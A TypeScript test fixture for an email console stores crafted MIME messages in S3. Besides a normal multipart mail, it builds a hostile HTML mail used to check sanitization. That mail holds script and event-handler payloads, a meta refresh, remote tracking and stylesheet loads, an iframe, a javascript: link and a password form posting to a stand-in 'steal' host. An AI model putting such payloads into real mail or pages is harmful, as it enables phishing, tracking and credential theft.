// Messages for the console's message page: a multipart with an HTML part and
// attachments, and a hostile HTML mail. `storeRaw` puts such bytes where the
// local fixture stored the plain message it queued (the index and the
// notification stay the fixture's), so the page reads them as SES's object.
import { PutObjectCommand } from '@aws-sdk/client-s3';
import type { ConsoleFixture } from './console-fixture.js';

/** Replaces every route's stored object of a queued message with `raw`; returns the object keys. */
export async function storeRaw(c: ConsoleFixture, id: string, raw: Buffer | string): Promise<string[]> {
  const keys = (await c.target.operator.show(id)).map((d) => d.objectKey);
  if (keys.length === 0) throw new Error(`storeRaw: ${id} is not queued`);
  for (const key of keys) await c.fx.clients.s3.send(new PutObjectCommand({ Bucket: c.fx.resources.bucketName, Key: key, Body: raw }));
  return keys;
}

const head = (subject: string, contentType: string) =>
  ['From: Alice <alice@sender.example>', 'To: bob@example.com', `Subject: ${subject}`, 'Message-ID: <console-test@sender.example>', 'Date: Mon, 05 Jan 2026 10:58:00 +0100', 'MIME-Version: 1.0', `Content-Type: ${contentType}`, ''];

/** multipart/mixed: an alternative (text + HTML) and two attachments (a PDF, a CSV with a non-ASCII name). */
export function multipartWithAttachments(): string {
  const pdf = Buffer.from('%PDF-1.4\n% a tiny not-really PDF for the listing\n').toString('base64');
  return [
    ...head('Contract from ACME', 'multipart/mixed; boundary="outer"'),
    '--outer',
    'Content-Type: multipart/alternative; boundary="alt"',
    '',
    '--alt',
    'Content-Type: text/plain; charset=UTF-8',
    '',
    'Hello Bob, the signed contract is attached. <b>not markup</b>',
    '--alt',
    'Content-Type: text/html; charset=UTF-8',
    '',
    '<p>Hello Bob, the <strong>signed contract</strong> is attached.</p>',
    '--alt--',
    '--outer',
    'Content-Type: application/pdf; name="contract-signed.pdf"',
    'Content-Disposition: attachment; filename="contract-signed.pdf"',
    'Content-Transfer-Encoding: base64',
    '',
    pdf,
    '--outer',
    'Content-Type: text/csv; charset=UTF-8',
    "Content-Disposition: attachment; filename*=UTF-8''pr%C3%A9visions.csv",
    '',
    'month,amount',
    'jan,100',
    '--outer--',
    '',
  ].join('\r\n');
}

/** The hosts a hostile mail tries to reach: none may see a request. */
export const HOSTILE_HOSTS = ['evil.example', 'tracker.example', 'styles.example', 'forms.example', 'refresh.example'];

/** Script, event handlers, remote image, form, remote stylesheet, CSS overlay, meta refresh, iframe, javascript: link. */
export function hostileHtml(): string {
  const body = [
    '<html><head>',
    '<meta http-equiv="refresh" content="0;url=http://refresh.example/">',
    '<link rel="stylesheet" href="http://styles.example/x.css">',
    '<style>body { background: url(http://styles.example/bg.png) } .overlay { position: fixed; inset: 0; }</style>',
    '<script>alert("script ran")</script>',
    '</head><body onload="alert(\'onload ran\')">',
    '<div class="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">Your session expired</div>',
    '<p>Pay the invoice <img src="http://tracker.example/pixel.gif?u=bob" alt="tracking pixel"> now.</p>',
    '<img src="x" onerror="alert(\'onerror ran\')">',
    '<form action="http://forms.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
    '<iframe src="http://evil.example/frame"></iframe>',
    '<a href="javascript:alert(\'link ran\')">click</a> <a href="http://evil.example/phish">read more</a>',
    '<svg onload="alert(\'svg ran\')"><image href="http://evil.example/svg.png"/></svg>',
    '</body></html>',
  ].join('\r\n');
  return [...head('Invoice overdue', 'text/html; charset=UTF-8'), body, ''].join('\r\n');
}

/** A message just past `bytes`: a text body of filler. */
export function oversized(bytes: number): string {
  const line = `${'x'.repeat(76)}\r\n`;
  return [...head('Huge scan', 'text/plain; charset=UTF-8'), line.repeat(Math.ceil(bytes / line.length) + 1)].join('\r\n');
}
